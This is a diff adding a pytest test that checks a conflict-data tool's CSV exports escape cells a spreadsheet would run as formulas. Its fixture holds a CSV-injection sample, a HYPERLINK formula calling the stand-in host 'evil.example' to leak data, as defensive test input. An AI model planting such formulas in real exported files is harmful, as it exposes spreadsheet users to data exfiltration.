@@ -3,6 +3,8 @@ headers on a crash's 500, integers too large for the database, and the other edg
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 from typing import Any
 
@@ -109,3 +111,58 @@ def test_a_span_of_fractional_or_boolean_offsets_is_refused(rv: Any) -> None:
                                                      "start": "1", "end": "3"}, headers=SAME)
     assert r.status_code == 303, r.text
     assert _log_count(store) == before + 1
+
+
+# -- CSV: a cell a spreadsheet would run as a formula ------------------------------------------------
+
+FORMULA_OUTLET = '=HYPERLINK("http://evil.example/?leak","open")'
+FORMULA_TEXT = "- قتل 5 مدنيين في قصف لقوات النظام على بلدة كفرنبل في ريف إدلب اليوم."
+
+
+@pytest.fixture(scope="module")
+def formula_ledger(tmp_path_factory: pytest.TempPathFactory) -> Any:
+    import json
+
+    from shahid.ingest import ingest
+
+    d = tmp_path_factory.mktemp("formula")
+    rec = d / "formula.jsonl"
+    rec.write_text(json.dumps({"text": FORMULA_TEXT, "outlet": FORMULA_OUTLET, "published": "2013-02-11",
+                               "title": "@SUM(1+1)"}, ensure_ascii=False) + "\n", encoding="utf-8")
+    s = open_store(d / "ledger.db")
+    ingest([rec], s)
+    link_store(s)
+    yield s
+    s.close()
+
+
+def _csv_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
+
+
+def test_csv_cells_that_would_run_as_formulas_are_written_as_text(formula_ledger: Any, capsys: Any) -> None:
+    from shahid.export import csv_cell, write_acled_csv
+    from shahid.store import iter_claims
+    from shahid.store.query import ClaimFilter
+    from test_ingest import cli
+
+    # the web's incident CSV: the outlet is the originator, first in the source cell
+    rows = _csv_rows(TestClient(create_app(formula_ledger)).get("/incidents.csv").text)
+    assert rows, "the formula document made an incident"
+    assert rows[0]["source"] == "'" + FORMULA_OUTLET
+    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
+    # the claim export: the outlet (source) and the evidence sentence (notes), which begins with "-"
+    buf = io.StringIO()
+    write_acled_csv(iter_claims(formula_ledger, ClaimFilter()), buf)
+    claims = _csv_rows(buf.getvalue())
+    assert claims and claims[0]["source"].startswith("'" + FORMULA_OUTLET)
+    assert claims[0]["notes"].startswith("'- قتل 5") and claims[0]["notes"][1:] in FORMULA_TEXT
+    # `shahid claims --format csv`
+    assert cli("claims", "--db", formula_ledger.url.render_as_string(), "--format", "csv") == 0
+    listed = _csv_rows(capsys.readouterr().out)
+    assert listed and listed[0]["outlet"] == "'" + FORMULA_OUTLET, listed[0]
+    assert listed[0]["evidence"].startswith("'- قتل 5")
+    # numbers are numbers: a negative latitude, a signed count
+    assert csv_cell("-33.51") == "-33.51" and csv_cell(-33.51) == -33.51 and csv_cell("+5") == "+5"
+    assert csv_cell("-") == "'-" and csv_cell("@x") == "'@x" and csv_cell("\tx") == "'\tx" and csv_cell("") == ""
+    assert csv_cell("حلب") == "حلب" and csv_cell(None) is None
